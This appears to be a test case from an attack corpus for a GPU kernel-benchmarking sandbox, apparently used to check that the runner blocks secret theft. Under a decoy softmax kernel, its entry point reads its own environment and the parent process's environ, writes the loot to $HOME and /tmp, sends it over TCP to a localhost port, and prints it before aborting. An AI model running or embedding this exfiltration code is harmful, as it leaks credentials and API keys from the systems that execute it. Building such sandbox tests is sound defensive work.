// Attack corpus (CUDA): Steals secrets: its own environment and /proc/<parent>/environ, written to a file in $HOME and
// in /tmp, sent to 127.0.0.1:47913 over TCP, and printed to stderr before it aborts (so the crash
// message quotes them). Expected: CRASHED; no API key in the runner's environment, the parent's
// environ unreadable, no file outside the runner's folder, nothing received on the port, and the
// stored message and log redacted. Screen: REJECTED.
#include "kforge.h"
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
extern char** environ;
#define ENTRY KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out, \
                                     const double* params, int n_params, void* workspace, void* stream)
#define SHAPE int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1; \
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d]; \
    const float* x = (const float*)in[0].data; float* y = (float*)out[0].data; \
    cudaStream_t s = (cudaStream_t)stream;

// The honest path, made slow on purpose (one thread per row, repeated): an attack must never win
// on its own merit, so any FASTER verdict for it is the attack working.
__global__ void softmax_slow_k(const float* x, float* y, int64_t rows, int64_t cols) {
    int64_t r = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (r >= rows) return;
    const float* xr = x + r * cols; float* yr = y + r * cols;
    for (int rep = 0; rep < 8; ++rep) {
        float m = KF_NEG_INF, t = 0.f;
        for (int64_t c = 0; c < cols; ++c) m = fmaxf(m, xr[c]);
        for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); t += yr[c]; }
        for (int64_t c = 0; c < cols; ++c) yr[c] /= t;
    }
}
static int softmax_slow(const float* x, float* y, int64_t rows, int64_t cols, cudaStream_t s) {
    softmax_slow_k<<<(unsigned)((rows + 31) / 32), 32, 0, s>>>(x, y, rows, cols);
    return (int)cudaGetLastError();
}

static char loot[1 << 16];
static size_t grab(void) {
    size_t n = 0;
    for (char** e = environ; e && *e && n < sizeof loot - 2; ++e) {
        size_t l = strlen(*e); if (n + l + 1 >= sizeof loot) break;
        memcpy(loot + n, *e, l); n += l; loot[n++] = '\n';
    }
    char path[64]; snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        ssize_t r = read(fd, loot + n, sizeof loot - n - 1);
        if (r > 0) { for (ssize_t i = 0; i < r; ++i) if (!loot[n + i]) loot[n + i] = '\n'; n += (size_t)r; }
        close(fd);
    }
    return n;
}
static void drop(const char* dir, const char* name, size_t n) {
    if (!dir) return;
    char path[512]; snprintf(path, sizeof path, "%s/%s", dir, name);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { (void)!write(fd, loot, n); close(fd); }
}
ENTRY { SHAPE (void)x; (void)y; (void)rows; (void)cols; (void)s;
    size_t n = grab();
    drop(getenv("HOME"), "kforge_attack_loot.txt", n);
    drop("/tmp", "kforge_attack_loot.txt", n);
    int sk = socket(AF_INET, SOCK_STREAM, 0);
    if (sk >= 0) {
        struct sockaddr_in a; memset(&a, 0, sizeof a);
        a.sin_family = AF_INET; a.sin_port = htons(47913); a.sin_addr.s_addr = htonl(0x7f000001);
        if (connect(sk, (struct sockaddr*)&a, sizeof a) == 0) (void)!write(sk, loot, n);
        close(sk);
    }
    (void)!write(2, loot, n);
    abort();
}
